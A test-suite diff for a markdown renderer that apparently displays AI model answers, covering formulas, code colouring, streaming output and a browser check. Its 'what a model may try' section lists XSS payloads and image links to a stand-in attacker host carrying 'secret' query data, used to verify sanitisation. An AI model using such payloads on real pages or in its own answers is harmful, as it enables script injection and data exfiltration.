@@ -1,0 +1,568 @@
+import re
+import subprocess
+import sys
+import time
+from collections.abc import Iterator
+from html.parser import HTMLParser
+from pathlib import Path
+from unittest.mock import patch
+
+import pytest
+from hypothesis import assume, given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from playwright.async_api import Page, expect
+
+from gateway_ui import markdown
+from gateway_ui.markdown import Growing, render, segments
+from tests.browser import SCREENSHOTS, free_port, wait_for_port
+
+ASSETS = Path(markdown.__file__).with_name("assets")
+STYLE = (ASSETS / "markdown.css").read_text()
+
+
+class Reader(HTMLParser):
+    """What a piece of HTML says to a person, and which elements it has."""
+
+    def __init__(self, source: str) -> None:
+        super().__init__()
+        self.words: list[str] = []
+        self.elements: list[tuple[str, dict[str, str | None]]] = []
+        self._label = False
+        self.feed(source)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.elements.append((tag, dict(attrs)))
+        self._label = ("class", "tw-language") in attrs
+
+    def handle_endtag(self, tag: str) -> None:
+        self._label = False
+
+    def handle_data(self, data: str) -> None:
+        if not self._label:
+            self.words.append(data)
+
+
+def text_of(source: str) -> str:
+    return "".join(Reader(source).words)
+
+
+def formulas(text: str) -> list[str]:
+    """The sources of what is drawn as formulas."""
+    return re.findall(r'data-tw-math="[^"]*">([^<]*)<', render(text))
+
+
+# ---- what is left alone ------------------------------------------------------------------------------------------
+
+PROSE = [
+    "It costs $5 today and $7 tomorrow",
+    "$5 and 10$",
+    "US$5-$7",
+    "$HOME/bin:$PATH",
+    ":smile: :red[x] :material/home:",
+    "a -- b --- c -> d ... (c) (tm) +-",
+    "\"quotes\" and 'quotes'",
+    "http://bare.example/?a=b and www.example.org and me@example.org",
+    "[x] done",
+    "price: $5, or $ 6 $",
+    "$5 or x = 6$",
+    "a$x$ b",
+    "$x$1 and $y$z",
+    "$the distance$",
+    "$ab$ and $und$",
+    "kill $$ and $$ now",
+    "vec![1, 2]",
+]
+
+
+@pytest.mark.parametrize("text", PROSE)
+def test_prose_stays_as_it_is(text: str) -> None:
+    assert text_of(render(text)).strip() == text
+    assert {tag for tag, _ in Reader(render(text)).elements} == {"p"}
+
+
+@pytest.mark.parametrize("text", PROSE)
+def test_prose_stays_as_it_is_in_a_table(text: str) -> None:
+    drawn = render(f"| a | b |\n|---|---|\n| {text} | x |")
+    assert f"<td>{re.sub('<[^>]*>', '', render(text)).strip()}</td>" in drawn
+    assert "tw-math" not in drawn
+
+
+WORDS = [
+    "word", "Größe", "日本語", "$5", "$", "$$", "5$", "$n$", "$x_1", "x^2$", ":smile:", ":red[x]", ":material/home:", "--",
+    "---", "->", "<-", "=>", "...", "(c)", "'", '"', "[x]", "(y)", "{z}", "a/b", "%", "@", "|", "1.", "+", "vec![1,", "2];",
+    "http://a.example", "$HOME/bin:$PATH", "US$5-$7", "~", "^", "=", "a=1", "🎉",
+]  # fmt: skip
+
+
+@given(st.lists(st.lists(st.sampled_from(WORDS), max_size=8).map(lambda words: " ".join(["So", *words])), min_size=1))
+def test_text_without_marks_of_markdown_reads_the_same(lines: list[str]) -> None:
+    text = "\n".join(lines)
+    assert text_of(render(text)) == text + "\n"
+    paragraphs = "\n\n".join(lines)
+    assert text_of(render(paragraphs)) == text + "\n"
+
+
+def plain() -> MarkdownIt:
+    """CommonMark with tables and strikethrough, and nothing of ours but which links there are."""
+    parser = MarkdownIt("commonmark", {"html": False, "maxNesting": 100}).enable(["table", "strikethrough"])
+    parser.validateLink = lambda url: re.match("https?://.|mailto:.", url) is not None  # type: ignore[method-assign]
+    return parser
+
+
+MARKS = st.sampled_from(
+    ["*", "**", "_", "~~", "`", "```", "#", "##", ">", "-", "+", "1.", "|", "|-|", "[", "]", "(http://a.example)", "<",
+     "<http://a.example>", "<b>", "&amp;", "&lt;", "a", "word", " ", " ", "\n", "\n\n", "    ", ":", "$5", "--", "=", "!"]
+)  # fmt: skip
+
+
+@given(st.lists(MARKS, max_size=40).map("".join))
+def test_text_with_marks_reads_as_plain_commonmark_does(text: str) -> None:
+    assume("![" not in text)
+    assert text_of(render(text)).split() == text_of(plain().render(text)).split()
+
+
+# ---- formulas ----------------------------------------------------------------------------------------------------
+
+MATHS = [
+    "$n$", "$x_{max} = 3$", "$ABC$", "$5x+3=2$", r"$\sin x$", "$ax^2 + bx + c = 0$", r"\(x\)", r"\(a_b + c_d\)", r"\[x\]",
+    "$$x$$", r"$x \text{ if it is positive}$", r"$\mathrm{speed} = 3$", r"$\operatorname{lcm}(a, b)$", r"\(distance\)",
+    r"$a < b$", "$10^{-3}$", r"$5\%$",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("formula", MATHS)
+@pytest.mark.parametrize("around", ["{}", "so {}, and", "**{}**", "*a {}*", "# {}", "- {}", "> {}", "|a|\n|-|\n|{}|"])
+def test_a_formula_is_one_wherever_it_stands(formula: str, around: str) -> None:
+    assert [text_of(one) for one in formulas(around.format(formula))] == [formula]
+
+
+@pytest.mark.parametrize("formula", MATHS)
+@pytest.mark.parametrize("around", ["`{}`", "```\n{}\n```", "    {}", "`` ` {} ``"])
+def test_code_holds_no_formula(formula: str, around: str) -> None:
+    assert formulas(around.format(formula)) == []
+    assert formula in text_of(render(around.format(formula)))
+
+
+def test_a_formula_stands_beside_letters_of_a_script_without_spaces() -> None:
+    assert formulas("変数$n$は") == ["$n$"]
+
+
+def test_two_formulas_of_a_line_are_two() -> None:
+    assert formulas(r"$a$ and $b$, \(c\) and \(d\), $$e$$ and $$f$$") == [
+        "$a$",
+        "$b$",
+        r"\(c\)",
+        r"\(d\)",
+        "$$e$$",
+        "$$f$$",
+    ]
+
+
+@pytest.mark.parametrize(
+    "text", ["\\[\nx\n\\]", "$$\nx\n$$", "$$x\n$$", "So:\n\\[\nx\n\\]", "So:\n\\[\nx\n\\].", "- a\n\n  $$\n  x\n  $$", "> $$\n> x\n> $$"]
+)  # fmt: skip
+def test_a_formula_of_several_lines_is_a_block(text: str) -> None:
+    assert (
+        len(re.findall('<div class="tw-formula" tabindex="0"><span class="tw-math tw-math-block"', render(text))) == 1
+    )
+
+
+def test_text_after_a_block_of_maths_is_kept() -> None:
+    assert text_of(render("$$\nx\n$$ and so on")).endswith("and so on\n")
+    assert "</span>.</div>" in render("\\[\nx\n\\].")
+
+
+def test_a_formula_that_begins_at_the_end_of_a_line_ends_in_the_paragraph() -> None:
+    assert formulas("Answer: $$\nx\n$$\nand more") == ["$$\nx\n$$"]
+
+
+@pytest.mark.parametrize("mark", ["$$", "\\["])
+def test_an_open_block_of_maths_is_shown_as_its_source(mark: str) -> None:
+    assert text_of(render(f"{mark}\nx^2 +\n\nNext")) == f"{mark}\nx^2 +\nNext\n"
+    assert '<div class="tw-code"><pre tabindex="0"><code>' in render(f"{mark}\nx^2 +")
+
+
+@pytest.mark.parametrize(
+    "latex", [r"\unknown x", "x^", r"\frac", "{", r"\newcommand{\a}{\a}\a", r"\href{javascript:alert(1)}{x}", "{" * 1000]
+)  # fmt: skip
+def test_what_cannot_be_converted_is_shown_as_its_source(latex: str) -> None:
+    drawn = render(rf"\({latex}\)")
+    assert drawn.startswith('<p><code class="tw-source">')
+    assert text_of(drawn) == f"\\({latex}\\)\n"
+
+
+@pytest.mark.parametrize(
+    "latex",
+    [r"\frac{a}{b}", r"\sqrt[3]{x}", r"\begin{aligned}a&=b\\c&=d\end{aligned}", r"\begin{align}a&=b\end{align}", r"a\\b",
+     r"\begin{cases}1&x>0\\0&\text{else}\end{cases}", r"\begin{pmatrix}1&2\\3&4\end{pmatrix}", r"\boxed{x}", r"\mathbb{R}",
+     r"\left(\frac{1}{2}\right]", r"\sum_{i=1}^n i \implies \vec v", r"\begin{gathered}a\\b\end{gathered}", r"\dfrac12"],
+)  # fmt: skip
+def test_what_models_write_can_be_converted(latex: str) -> None:
+    assert markdown._mathml(latex, "block").startswith('<math display="block">')
+
+
+def test_mathml_holds_only_what_is_known_to_be_harmless() -> None:
+    hostile = r"\text{<img src=x onerror=alert(1)> &lt;script&gt;} \color{red}{x}"
+    for tag, attributes in Reader(markdown._mathml(hostile, "inline")).elements:
+        assert tag in markdown._MATHS_ELEMENTS
+        assert set(attributes) <= {*markdown._MATHS_ATTRIBUTES, "class"}
+
+
+def test_the_script_knows_the_same_elements_as_the_module() -> None:
+    script = (ASSETS / "markdown.js").read_text()
+    elements, attributes = re.findall(r"new Set\((.+?)\n?\s*\.split", script, re.DOTALL)
+    assert {*"".join(re.findall('"(.*?)"', elements)).split()} == markdown._MATHS_ELEMENTS
+    assert {*"".join(re.findall('"(.*?)"', attributes)).split()} == {*markdown._MATHS_ATTRIBUTES, "class"}
+
+
+# ---- code --------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("language", ["python", "rust", "Rust", "js", "nonesuch", "", "html", "diff", "console"])
+@given(code=st.text(st.sampled_from("ab (){}[]!<>&\"'#$\\\t\n\ufeff\u200d=:;.,0123日🎉"), max_size=60))
+def test_code_reads_as_it_was_written(language: str, code: str) -> None:
+    assume("```" not in code)
+    drawn = render(f"````{language}\n{code}\n````")
+    assert text_of(drawn).removesuffix("\n") == code + "\n"
+
+
+def test_code_has_its_language_and_colours() -> None:
+    drawn = render("```python\nimport os\n```")
+    assert '<div class="tw-language">python</div><pre tabindex="0"><code><span class="tw-k">import</span> os\n' in drawn
+
+
+def test_only_the_beginning_of_long_code_is_coloured() -> None:
+    code = "x = 1\n" * 10_000
+    drawn = render(f"```python\n{code}```")
+    assert text_of(drawn) == code + "\n"
+    assert 2 * markdown._COLOURED_CHARACTERS < len(drawn) < 5 * len(code)
+    assert not drawn.rstrip().endswith("</span>\n</code></pre></div>")
+
+
+# ---- what a model may try ----------------------------------------------------------------------------------------
+
+HOSTILE = [
+    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))", "[x](data:text/html,<script>)",
+    "[x](vbscript:x)", "[x](/relative)", "[x](//host/path)", "[x](file:///etc/passwd)", "<javascript:alert(1)>", "<ftp://a.b>",
+    "[x]: javascript:alert(1)\n\n[x]", "![x](http://attacker/?q=secret)", "![x](javascript:alert(1))",
+    "[![x](http://attacker/?q=secret)](http://a.b)", "<img src=x onerror=alert(1)>", "<script>alert(1)</script>",
+    "</code></pre><script>", "```\"><img src=x>\ncode\n```", "```<b>\ncode\n```", "<svg onload=x>", "<style>*{}</style>",
+    "| <img src=x> |\n|-|\n| <b> |", '[x](http://a.b "\\"><img src=x>")', '[x](http://a.b/"onclick=x)', "&lt;script&gt;",
+    r"\(\text{<img src=x>}\)", r"$\style{background:url(//x)}{y}$", '<span data-tw-math="&lt;math&gt;">', "# <h1>",
+]  # fmt: skip
+ALLOWED = {
+    "p", "a", "code", "pre", "div", "span", "strong", "em", "s", "ul", "ol", "li", "blockquote", "hr", "br", "h3", "h4", "h5",
+    "h6", "table", "thead", "tbody", "tr", "th", "td",
+}  # fmt: skip
+ATTRIBUTES = {"href", "title", "target", "rel", "class", "tabindex", "role", "aria-label", "data-tw-math", "start"}
+
+
+def check_harmless(drawn: str) -> None:
+    for tag, attributes in Reader(drawn).elements:
+        assert tag in ALLOWED
+        assert set(attributes) <= ATTRIBUTES
+        if tag == "a":
+            assert re.match("https?://[^/]|mailto:", str(attributes["href"]))
+            assert (attributes["target"], attributes["rel"]) == ("_blank", "noopener noreferrer")
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_a_model_may_try_is_harmless(text: str) -> None:
+    check_harmless(render(text))
+    for cut in range(len(text)):
+        check_harmless(Growing().update(text[:cut])[1])
+
+
+@given(
+    st.lists(
+        st.sampled_from([*HOSTILE, "\n", "\n\n", "`", "**", "[", "](", ")", "<", ">", '"', "- ", "> "]), max_size=12
+    )
+)
+def test_mixed_attempts_are_harmless(parts: list[str]) -> None:
+    check_harmless(render("".join(parts)))
+
+
+def test_an_image_is_its_words_and_address() -> None:
+    assert render("![a *b*](http://attacker/?q=1&r)") == (
+        '<p><span class="tw-image">a b (http://attacker/?q=1&amp;r)</span></p>\n'
+    )
+
+
+def test_a_link_that_leads_nowhere_safe_shows_its_address() -> None:
+    assert text_of(render("[x](javascript:alert(1))")) == "[x](javascript:alert(1))\n"
+
+
+@pytest.mark.parametrize(("mark", "tag"), [("#", "h3"), ("##", "h4"), ("###", "h5"), ("####", "h6"), ("######", "h6")])
+def test_a_heading_stands_below_that_of_the_page(mark: str, tag: str) -> None:
+    assert render(f"{mark} x") == f"<{tag}>x</{tag}>\n"
+
+
+def test_a_table_scrolls_by_itself() -> None:
+    drawn = render("|a|b|\n|:-:|-:|\n|1|2|")
+    assert drawn.startswith('<div class="tw-table" tabindex="0" role="region" aria-label="Table"><table>')
+    assert '<th class="tw-center">a</th>\n<th class="tw-right">b</th>' in drawn
+
+
+SIZES = {
+    "quotes": "> " * 1000 + "x", "lists": "- " * 1000 + "x", "both": "> - " * 1000 + "x", "brackets": "[" * 1000 + "x" + "]" * 1000,
+    "links": "[" * 1000 + "x" + "](http://a.b)" * 1000, "images": "![" * 1000, "stars": "*a **b" * 5000, "line": "word " * 200_000,
+    "dollars": "$x " * 100_000, "double": "$$ " * 100_000, "parentheses": "\\(" * 50_000, "squares": "\\[x\n" * 20_000,
+    "braces": "\\(" + "{" * 3000 + "\\)", "angles": "<a" * 50_000, "ticks": "".join("`" * n + " " for n in range(400)),
+    "table": "|a" * 1000 + "\n" + "|-" * 1000 + "\n|b", "code": "```python\n" + "x = '" * 100_000, "open": "[a](http://" * 10_000,
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", SIZES)
+def test_large_and_deep_text_is_drawn_in_bounded_time(name: str) -> None:
+    began = time.process_time()
+    check_harmless(render(SIZES[name]))
+    Growing().update(SIZES[name])
+    assert time.process_time() - began < 10  # each takes less than two on a slow machine
+
+
+def test_what_is_nested_too_deep_is_still_shown() -> None:
+    assert "the end" in text_of(render("> " * 1000 + "the end"))
+    assert "the end" in text_of(render("- " * 1000 + "the end"))
+
+
+# ---- growing -----------------------------------------------------------------------------------------------------
+
+FRAGMENTS = st.sampled_from(
+    ["word ", "So it is. ", "\n", "\n", "\n\n", "\n\n", "- ", "  - ", "1. ", "> ", "# ", "```\n", "```python\n", "~~~\n", "    ",
+     "---\n", "===\n", "-", "=", "|a|b|\n", "|-|-|\n", "| x", "$$", "$$\n", "\\[", "\\]", "\\]\n", "\\(x", "\\)", "$x$", "$5 ",
+     "**", "*", "`", "[a](http://a.b)", "[a](http", "![", "<b>", "\r\n", "\r", "\t", "\0", "x^2"]
+)  # fmt: skip
+
+
+def grown(text: str, cuts: list[int]) -> list[str]:
+    growing, closed = Growing(), []
+    for cut in sorted({min(cut, len(text)) for cut in cuts}):
+        closed += growing.update(text[:cut])[0]
+    new, tail = growing.update(text, ended=True)
+    return [*closed, *new, tail] if tail else [*closed, *new]
+
+
+@given(st.lists(FRAGMENTS, max_size=60).map("".join), st.lists(st.integers(0, 400), max_size=30), st.integers(1, 60))
+def test_what_has_grown_is_what_is_drawn_at_once(text: str, cuts: list[int], size: int) -> None:
+    with patch.object(markdown, "SEGMENT_CHARACTERS", size):
+        assert "".join(grown(text, cuts)) == render(text)
+        assert grown(text, cuts) == segments(text)
+        assert grown(text, [*range(len(text))]) == segments(text)
+
+
+def long_answer(words: int) -> str:
+    paragraphs = (
+        ("word " * 60).strip(),
+        "## Heading",
+        "- one\n- two $x$\n- three",
+        "```python\nx = 1\n```",
+        "|a|b|\n|-|-|\n|1|2|",
+    )
+    return "\n\n".join(paragraphs[number % 5] for number in range(words // 15))
+
+
+def test_a_long_answer_has_some_dozens_of_segments() -> None:
+    text = long_answer(20_000)
+    drawn = segments(text)
+    assert len(text) / (2 * markdown.SEGMENT_CHARACTERS) < len(drawn) <= len(text) / markdown.SEGMENT_CHARACTERS + 1
+    assert "".join(drawn) == render(text)
+
+
+@pytest.mark.parametrize("words", [2_000, 8_000])
+def test_an_update_costs_what_is_open_and_not_what_is_closed(words: int) -> None:
+    text = long_answer(words)
+    growing, updates, largest = Growing(), 0, 0
+    for end in range(0, len(text), 50):
+        before = growing.parsed
+        growing.update(text[:end])
+        updates += 1
+        largest = max(largest, growing.parsed - before)
+    # The tail is parsed for its blocks and to be drawn; closing a segment draws that, too.
+    assert largest < 4 * (markdown.SEGMENT_CHARACTERS + 500)
+    assert growing.parsed < updates * 2 * markdown.SEGMENT_CHARACTERS
+
+
+def test_a_link_defined_above_is_known_below_and_one_defined_below_when_the_answer_has_ended() -> None:
+    filler = "word " * 1000
+    above = f"[a]: http://a.example\n\n{filler}\n\nSee [a].\n\n{filler}\n\nSee [a]."
+    assert "".join(grown(above, [3000, 6000])) == render(above) == "".join(segments(above))
+    below = f"See [a].\n\n{filler}\n\n{filler}\n\n[a]: http://a.example"
+    assert "<a " not in "".join(grown(below, [*range(0, len(below), 100)]))
+    assert "<a " in "".join(segments(below))
+
+
+@pytest.mark.parametrize(
+    ("text", "drawn"),
+    [
+        ("So:\n-", "So:\n"), ("So:\n--", "So:\n"), ("So:\n- one", "So:\n\none\n\n"), ("So\n=", "So\n"), ("So\n``", "So\n"),
+        ("So\n\n| a | b", "So\n"), ("So\n\n| a | b |\n", "So\n"), ("So\n\n| a | b |\n|--", "So\n"), ("So\n\n1", "So\n"),
+        ("see [here](http://exa", "see here\n"), ("so \\(x^2", "so \\(x^2\n"), ("**bold", "**bold\n"), ("so $x", "so $x\n"),
+        ("`code", "`code\n"), ("costs $", "costs $\n"),
+    ],
+)  # fmt: skip
+def test_what_cannot_be_told_yet_is_not_drawn_as_something_else(text: str, drawn: str) -> None:
+    assert text_of(Growing().update(text)[1]) == drawn
+
+
+@pytest.mark.parametrize("code", ["```python\nprint(", "```python\nprint(1)\n``", "- a\n  ```python\n  print("])
+def test_an_open_fence_is_drawn_as_code(code: str) -> None:
+    assert (
+        '<div class="tw-language">python</div><pre tabindex="0"><code><span class="tw-t">print</span>('
+        in (Growing().update(code)[1])
+    )
+
+
+def test_a_table_appears_as_one_and_grows_by_letters() -> None:
+    head = "| a | b |\n|---|---|\n"
+    for end in range(len(head)):
+        assert Growing().update(head[:end])[1] == ""
+    assert "<td>on" in Growing().update(head + "| on")[1]
+
+
+@pytest.mark.parametrize("mark", ["$$", "\\["])
+def test_a_growing_block_of_maths_is_its_source_until_it_ends(mark: str) -> None:
+    end = {"$$": "$$", "\\[": "\\]"}[mark]
+    assert Growing().update(f"{mark}\nx^")[1].startswith('<div class="tw-code"><pre tabindex="0"><code>')
+    assert (
+        "tw-formula" in Growing().update(f"{mark}\nx^2\n{end}")[1] or mark == "$$"
+    )  # a line of marks waits for its end
+    assert "tw-formula" in Growing().update(f"{mark}\nx^2\n{end}\n")[1]
+
+
+# ---- looks -------------------------------------------------------------------------------------------------------
+
+
+def colours() -> Iterator[tuple[str, tuple[str, str]]]:
+    for name, light, dark in re.findall(r"--tw-([\w-]+): light-dark\((#\w{6}), (#\w{6})\)", STYLE):
+        yield name, (light, dark)
+
+
+def luminance(colour: str) -> float:
+    parts = [int(colour[place : place + 2], 16) / 255 for place in (1, 3, 5)]
+    red, green, blue = (part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
+    return 0.2126 * red + 0.7152 * green + 0.0722 * blue
+
+
+def contrast(one: str, other: str) -> float:
+    light, dark = sorted((luminance(one), luminance(other)), reverse=True)
+    return (light + 0.05) / (dark + 0.05)
+
+
+@pytest.mark.parametrize("theme", [0, 1])
+def test_colours_of_code_can_be_read(theme: int) -> None:
+    by_name = dict(colours())
+    back = by_name.pop("code-back")[theme]
+    assert by_name.pop("line")
+    assert set(by_name) >= {"code-text", "comment", "keyword", "string", "number", "name", "type", "label"}
+    assert {name: pair for name, pair in by_name.items() if contrast(pair[theme], back) < 4.5} == {}
+
+
+def test_each_class_of_code_has_a_colour() -> None:
+    assert {name for _, name in markdown._COLOURS} == set(re.findall(r"\.(tw-\w) \{ color: var", STYLE))
+
+
+# ---- in the browser ----------------------------------------------------------------------------------------------
+
+SAMPLE = r"""
+# A heading with $x$
+
+It costs $5 today and $7 tomorrow. Inline \(\frac{a}{b}\), a [link](https://example.org/?a=1&b=2) and `code`,
+![alt](http://attacker.example/?q=secret), <img src="http://attacker.example/x"> and averyverylongwordthatdoesnotfit/averyverylong.
+
+$$
+\begin{aligned} a &= b \\ &= \sum_{i=1}^{n} \left(\frac{i^2}{2}\right) + x_1 + x_2 + x_3 + x_4 + x_5 + x_6 + x_7 + x_8 \end{aligned}
+$$
+
+```python
+print("a long line, " * 3)  # which is longer than the screen of a phone is wide, so that it has to be scrolled
+```
+
+| Item | Price | Formula | A wide column with much text |
+|:-----|------:|:-------:|------------------------------|
+| Tea  | $5    | \(x^2\) | some words that go on        |
+"""
+
+SCRIPT = """
+import sys, time
+from pathlib import Path
+import streamlit as st
+from gateway_ui import markdown
+assets = Path(markdown.__file__).with_name("assets")
+st.html(assets / "markdown.css")
+st.html(f"<script>{(assets / 'markdown.js').read_text()}</script>", unsafe_allow_javascript=True)
+text = Path(__file__).with_name("sample.md").read_text()
+if not st.button("Start"):
+    st.stop()
+place, growing = st.empty(), markdown.Growing()
+for end in range(1, len(text), 30):
+    place.html(f'<div class="tw-md">{growing.update(text[:end])[1]} </div>')
+    time.sleep(0.02)
+place.html(f'<div class="tw-md">{markdown.render(text)}</div>')
+st.text("drawn")
+"""
+
+WATCH = """() => {
+  window.late = 0;
+  const look = () => {
+    window.late += document.querySelectorAll("[data-tw-math]").length;
+    requestAnimationFrame(look);
+  };
+  requestAnimationFrame(look);
+}"""
+
+
+@pytest.fixture(scope="module")
+def sample_page(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
+    """A page of Streamlit that draws the sample as it grows; gives its URL."""
+    folder = tmp_path_factory.mktemp("page")
+    (folder / "sample.md").write_text(SAMPLE)
+    (folder / "page.py").write_text(SCRIPT)
+    port = free_port()
+    flags = {"port": port, "address": "localhost", "headless": "true", "fileWatcherType": "none"}
+    process = subprocess.Popen(
+        [sys.executable, "-m", "streamlit", "run", folder / "page.py", "--browser.gatherUsageStats=false"]
+        + [f"--server.{name}={value}" for name, value in flags.items()],
+        stdout=subprocess.DEVNULL,
+        text=True,
+    )
+    wait_for_port(port, process)
+    yield f"http://localhost:{port}"
+    process.terminate()
+    process.wait(30)
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("theme", ["light", "dark"])
+@pytest.mark.parametrize("width", [1100, 390])
+async def test_streamlit_draws_all_of_it(tab: Page, sample_page: str, theme: str, width: int) -> None:
+    # The tab's fixture fails the test if anything is asked for from elsewhere.
+    await tab.set_viewport_size({"width": width, "height": 844})
+    await tab.emulate_media(color_scheme="dark" if theme == "dark" else "light")
+    await tab.add_init_script(f"({WATCH})()")
+    await tab.goto(sample_page)
+    # The script is there long before an answer; Streamlit runs it after it has painted.
+    await tab.wait_for_function("window.tokenwireFormulas")
+    await tab.get_by_text("Start", exact=True).click()
+    await expect(tab.get_by_text("drawn", exact=True)).to_be_visible()
+    answer = tab.locator(".tw-md")
+    await expect(answer.locator("math")).to_have_count(4)
+    assert await tab.evaluate("window.late") == 0  # no frame showed a formula's source first
+    await expect(answer.locator("math mfrac")).to_have_count(2)
+    await expect(answer.locator("img, script")).to_have_count(0)
+    link = answer.locator("a")
+    assert (await link.get_attribute("target"), await link.get_attribute("rel")) == ("_blank", "noopener noreferrer")
+    table = answer.get_by_role("region", name="Table")
+    await expect(table).to_have_attribute("tabindex", "0")
+    await expect(answer.locator("pre")).to_have_attribute("tabindex", "0")
+    await expect(answer.locator("th.tw-center")).to_have_count(1)
+    assert await answer.evaluate("one => getComputedStyle(one).colorScheme") == theme
+    back = {"light": "rgb(246, 248, 250)", "dark": "rgb(36, 36, 42)"}[theme]
+    await expect(answer.locator(".tw-code")).to_have_css("background-color", back)
+    assert await tab.evaluate("document.documentElement.scrollWidth <= innerWidth")
+    if width == 390:
+        for one in (table, answer.locator("pre"), answer.locator(".tw-formula")):
+            assert await one.evaluate("one => one.scrollWidth > one.clientWidth")
+            assert await one.evaluate("one => one.getBoundingClientRect().right <= innerWidth")
+    await tab.screenshot(path=SCREENSHOTS / f"markdown-{theme}-{width}.png")
